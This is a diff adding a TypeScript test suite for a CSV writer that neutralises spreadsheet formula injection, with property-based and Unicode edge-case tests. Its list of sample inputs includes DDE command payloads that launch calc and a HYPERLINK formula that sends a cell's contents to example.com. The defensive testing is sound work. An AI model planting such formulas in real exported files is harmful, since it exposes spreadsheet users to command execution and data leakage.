@@ -1,0 +1,285 @@
+import { createRequire } from 'node:module';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvCell, csvRow, onOneLine } from './cells.policy.js';
+import type { CellStyle } from './cells.policy.js';
+
+// A reader that others wrote; it comes without types.
+const { parse } = createRequire(import.meta.url)('papaparse') as {
+  parse(csv: string, options: object): { data: string[][]; errors: unknown[] };
+};
+const read = (csv: string): string[][] => {
+  const { data, errors } = parse(csv, { delimiter: ',', newline: '\r\n', skipEmptyLines: false });
+  expect(errors).toEqual([]);
+  // What follows the last line end is no row.
+  expect(data.pop()).toEqual(['']);
+  return data;
+};
+const readCell = (cell: string): string => read(`${cell},\r\n`)[0]![0]!;
+
+const STYLES: readonly CellStyle[] = ['plain', 'quoted'];
+
+const COMMANDS = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://example.com?x="&A1,"see")',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A9)',
+  '+61 *** *** 123',
+  '-2 degrees',
+  '|calc',
+  '%0A=1',
+  "cmd|' /C calc'!A0",
+  "MSEXCEL|'\\..\\..\\calc.exe'!x",
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '｜calc',
+  '﹦1+1',
+  '﹢1',
+  '﹣1',
+  '﹫x',
+  '⁼1',
+  '₊1',
+  '−1',
+  'cmd｜x！A0',
+];
+
+const HIDERS = [
+  ' ',
+  '   ',
+  '\u00a0',
+  '\ufeff',
+  '\u200b',
+  '\u200d',
+  '\u2060',
+  '\u00ad',
+  '\u061c',
+  '\u180e',
+  '\u202e',
+  '\u2003',
+  '\u3000',
+  '\u2028',
+  '\u2029',
+  '\u0085',
+  '\u2800',
+  '\u3164',
+  '\u{e0001}',
+  '\0',
+  '\u0001',
+  '\u001f',
+  '\u007f',
+  '\v',
+  '\f',
+  '"',
+  '""',
+  "'",
+  '“',
+  '‘',
+  '„',
+  '«',
+  '＂',
+  '＇',
+  '`',
+  '´',
+  ' "\u200b\' ',
+];
+
+describe('a cell that could be read as a formula', () => {
+  it.each(COMMANDS)('gets an apostrophe in front: %s', (text) => {
+    for (const style of STYLES) expect(readCell(csvCell(text, style))).toBe(`'${text}`);
+  });
+
+  it.each(HIDERS.map((hider) => [JSON.stringify(hider), hider]))('is found behind %s', (_written, hider) => {
+    for (const command of COMMANDS) {
+      expect(readCell(csvCell(hider + command, 'quoted'))).toBe(`'${hider}${command}`);
+      expect(readCell(csvCell(hider + command, 'plain'))).toBe(`'${onOneLine(hider)}${command}`);
+    }
+  });
+
+  it.each(['\tx', '\rx', '\nx', '\r\nx', ' \tx', '\u200b\nx', '"\tx', '\t', '\n'])(
+    'is one that begins with %j where its breaks are kept',
+    (text) => {
+      expect(readCell(csvCell(text, 'quoted'))).toBe(`'${text.replace(/\r\n|\r|\n/, '\r\n')}`);
+    },
+  );
+
+  it('is one that begins with a tab where its breaks are not kept, while breaks are blanks there', () => {
+    expect(readCell(csvCell('\tx', 'plain'))).toBe("'\tx");
+    expect(readCell(csvCell('\nx', 'plain'))).toBe(' x');
+    expect(readCell(csvCell('\n=x', 'plain'))).toBe("' =x");
+  });
+
+  it('is found in every compatibility form that Unicode has of the signs', () => {
+    const missed: string[] = [];
+    let found = 0;
+    for (let code = 1; code <= 0x10ffff; code += 1) {
+      const sign = String.fromCodePoint(code);
+      if (!'=+-@|%'.includes(sign.normalize('NFKC')[0]!)) continue;
+      found += 1;
+      if (readCell(csvCell(`${sign}1`, 'quoted')) !== `'${sign}1`) missed.push(code.toString(16));
+    }
+    expect(missed).toEqual([]);
+    expect(found).toBeGreaterThan(20);
+  });
+
+  it('costs time in proportion to its length, however it is made', () => {
+    const long = 200_000;
+    for (const text of [
+      ' '.repeat(long),
+      'a'.repeat(long),
+      `a|${'b'.repeat(long)}`,
+      `${'"'.repeat(long)}x`,
+    ]) {
+      const began = performance.now();
+      csvCell(text, 'quoted');
+      expect(performance.now() - began).toBeLessThan(1000);
+    }
+  });
+});
+
+describe('a cell that could not', () => {
+  it.each([
+    '',
+    '0',
+    '142',
+    '31/10/2026 15:12:09',
+    '2026-10-31T04:12:09.000Z',
+    'room-2026-10-31',
+    'a=1',
+    'a-b',
+    '5 % off',
+    'yes | no',
+    'robin@example.com',
+    'caller: =1+1',
+    '"Yes", she said.',
+    "'tis so",
+    '…',
+    '¿Cómo?',
+    '李小龍',
+    '😀',
+  ])('stays as it is: %j', (text) => {
+    for (const style of STYLES) expect(readCell(csvCell(text, style))).toBe(text);
+  });
+});
+
+describe('quotes', () => {
+  it.each([
+    ['', ''],
+    ['142', '142'],
+    ['Ava', 'Ava'],
+    ['a;b', 'a;b'],
+    ['a,b', '"a,b"'],
+    ['a"b', '"a""b"'],
+    [' a', '" a"'],
+    ['a ', '"a "'],
+    ['a\nb', 'a b'],
+    ['=1', "'=1"],
+    ['=1,2', '"\'=1,2"'],
+  ])('of %j in plain cells', (text, written) => {
+    expect(csvCell(text, 'plain')).toBe(written);
+  });
+
+  it.each([
+    ['', '""'],
+    ['142', '"142"'],
+    ['a"b', '"a""b"'],
+    ['a\nb', '"a\r\nb"'],
+    ['a\rb\r\nc\n\nd', '"a\r\nb\r\nc\r\n\r\nd"'],
+    ['=1', '"\'=1"'],
+  ])('of %j in quoted cells', (text, written) => {
+    expect(csvCell(text, 'quoted')).toBe(written);
+  });
+});
+
+describe('a row', () => {
+  it('ends with CRLF', () => {
+    expect(csvRow(['a', '', 'b'], 'plain')).toBe('a,,b\r\n');
+    expect(csvRow(['a', '', 'b'], 'quoted')).toBe('"a","","b"\r\n');
+  });
+
+  it('of one empty cell is no blank line in quotes', () => {
+    expect(csvRow([''], 'quoted')).toBe('""\r\n');
+  });
+
+  it('is one line in plain style, whatever its cells hold', () => {
+    expect(csvRow(['a\r\nb', 'c\u2028d', 'e\u0085f'], 'plain')).toBe('a b,c d,e f\r\n');
+  });
+});
+
+// Lone surrogates and NUL among everything else, and what makes trouble more often than chance would have it.
+const sign = fc.oneof(
+  fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
+  fc.integer({ min: 0x10000, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
+  fc.constantFrom(
+    ...'=+-@|%!,;"\' \t\r\n\0a1'.split(''),
+    '\r\n',
+    '\ufeff',
+    '\u200b',
+    '\u2028',
+    '\ud800',
+    '\udc00',
+  ),
+);
+const text = fc.array(sign, { maxLength: 12 }).map((signs) => signs.join(''));
+const rows = fc
+  .integer({ min: 1, max: 4 })
+  .chain((width) =>
+    fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 5 }),
+  );
+
+const breaksOf = (cell: string, style: CellStyle): string =>
+  style === 'plain' ? onOneLine(cell) : cell.split(/\r\n|\r|\n/).join('\r\n');
+
+describe('whatever the cells hold', () => {
+  it.each(STYLES)(
+    'a reader of %s style finds them again, apart from the apostrophe and the breaks',
+    (style) => {
+      fc.assert(
+        fc.property(rows, (table) => {
+          const found = read(table.map((row) => csvRow(row, style)).join('')).flat();
+          // A reader takes a BOM at the very start for the file's own; ours start with a header.
+          fc.pre(!csvRow(table[0]!, style).startsWith('\ufeff'));
+          const sent = table.flat().map((cell) => breaksOf(cell, style));
+          expect(found.length).toBe(sent.length);
+          for (const [index, cell] of sent.entries()) expect([cell, `'${cell}`]).toContain(found[index]);
+        }),
+        { numRuns: 2000 },
+      );
+    },
+  );
+
+  it('two different cells are never written alike', () => {
+    const variants = text.chain((it) => fc.constantFrom<[string, string]>([it, `'${it}`], [it, `''${it}`]));
+    fc.assert(
+      fc.property(fc.oneof(variants, fc.tuple(text, text)), ([one, other]) => {
+        const same = breaksOf(one, 'quoted') === breaksOf(other, 'quoted');
+        expect(csvCell(one, 'quoted') === csvCell(other, 'quoted')).toBe(same);
+      }),
+      { numRuns: 4000 },
+    );
+  });
+
+  it('none begins with a sign of a formula once it is read, not even behind what cannot be seen', () => {
+    const hidden = /^[\s\p{C}\p{Default_Ignorable_Code_Point}"'`´]*[=+\-@|%＝＋－＠\t\r\n]/u;
+    fc.assert(
+      fc.property(text, fc.constantFrom(...STYLES), (it, style) => {
+        const found = readCell(csvCell(it, style));
+        // The apostrophe is the first sign there is: nothing stands before it that could be stripped.
+        if (hidden.test(found)) expect(found[0]).toBe("'");
+      }),
+      { numRuns: 4000 },
+    );
+  });
+
+  it('what goes over the wire is UTF-8, in which half a surrogate pair is a replacement sign', () => {
+    fc.assert(
+      fc.property(rows, (table) => {
+        const csv = table.map((row) => csvRow(row, 'quoted')).join('');
+        expect(Buffer.from(csv).toString()).toBe(csv.toWellFormed());
+      }),
+    );
+  });
+});
